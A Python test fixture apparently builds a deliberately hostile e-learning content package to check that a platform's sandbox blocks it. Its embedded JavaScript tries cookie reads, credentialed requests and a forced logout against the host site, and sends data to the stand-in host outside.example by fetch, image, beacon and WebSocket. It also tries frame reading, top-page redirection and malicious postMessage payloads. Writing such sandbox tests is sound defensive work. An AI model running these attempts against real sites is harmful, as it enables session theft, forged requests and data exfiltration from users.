"""A package that tries everything it must not do, and tells how each attempt ended."""

from __future__ import annotations

from packages.making import manifest_12, packed

PAGE = """<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Hostile</title></head><body><p id="told"></p>
<form id="form" method="post" target="_top"><input name="done" value="yes"></form>
<script src="attack.js"></script></body></html>"""
ATTACK = """
const site = document.referrer ? new URL(document.referrer).origin : "";
const main = parent.document.body.dataset.site;
const outside = "https://outside.example/steal";
const outcome = {};
const named = (fault) => fault.name;
const attempt = async (name, deed) => {
  try { outcome[name] = await deed(); } catch (fault) { outcome[name] = named(fault); }
};
const waited = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
(async () => {
  await attempt("cookies", () => document.cookie);
  await attempt("top document", () => top.document.title);
  await attempt("top storage", () => top.localStorage.length);
  await attempt("our page by fetch", async () => (await fetch(main + "/people/", { credentials: "include" })).status);
  await attempt("our page by fetch without answer", async () => (await fetch(main + "/account/logout/", { method: "POST", mode: "no-cors", credentials: "include" })).type);
  await attempt("elsewhere by fetch", async () => (await fetch(outside, { mode: "no-cors" })).type);
  await attempt("elsewhere by picture", () => new Promise((resolve) => {
    const picture = new Image();
    picture.onload = () => resolve("loaded"); picture.onerror = () => resolve("error"); picture.src = outside + ".png";
  }));
  // The policy forbids it after it is queued, so the answer of the call says nothing; the journey looks at requests.
  await attempt("elsewhere by beacon", () => { navigator.sendBeacon(outside, "x"); return "nothing sent"; });
  await attempt("elsewhere by socket", () => new Promise((resolve) => {
    let socket;
    try { socket = new WebSocket("wss://outside.example/"); } catch (fault) { resolve("closed"); return; }
    socket.onopen = () => resolve("open"); socket.onerror = () => resolve("closed");
  }));
  await attempt("a new window", () => String(window.open(main + "/people/")));
  await attempt("the top page", () => { top.location = outside; return "moved"; });
  await attempt("a service worker", async () => {
    try { await navigator.serviceWorker.register("attack.js"); return "registered"; } catch (fault) { return "refused"; }
  });
  await attempt("a frame of our page", async () => {
    const frame = document.createElement("iframe");
    frame.src = main + "/people/";
    document.body.append(frame);
    await waited(800);
    try { return "read " + frame.contentDocument.body.innerText.length; } catch (fault) { return "nothing read"; }
  });
  await attempt("a form to our page", async () => {
    const form = document.getElementById("form");
    form.action = main + "/account/logout/";
    form.submit();
    await waited(500);
    return "stayed";
  });
  await attempt("another's ticket", async () => (await fetch("/play/made-up/report/", { method: "POST", body: "{}" })).status);
  await attempt("parent messages", () => {
    for (const data of [
      { biosint: "packages", kind: "link", address: "javascript:alert(1)" },
      { biosint: "packages", kind: "__proto__" },
      { biosint: "packages", kind: "height", height: 1e9 },
      { biosint: "packages", kind: "ticket", question: 1 },
    ]) { parent.parent.postMessage(data, "*"); parent.postMessage(data, "*"); }
    return "sent";
  });
  document.getElementById("told").textContent = JSON.stringify(outcome) + "finished";
})();
"""


def hostile() -> bytes:
    return packed({"imsmanifest.xml": manifest_12(), "index.html": PAGE, "attack.js": ATTACK})
